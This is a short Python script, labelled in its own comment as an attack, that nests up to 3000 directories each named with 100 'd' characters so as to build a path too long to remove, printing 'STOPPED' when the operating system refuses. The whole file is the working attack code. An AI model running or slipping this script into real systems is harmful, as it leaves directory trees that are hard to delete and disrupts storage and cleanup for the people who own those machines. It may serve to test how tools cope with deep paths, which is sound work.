# attack: makes a path that is too long to remove
import os
try:
    for number in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
except OSError as error:
    print("STOPPED", error)
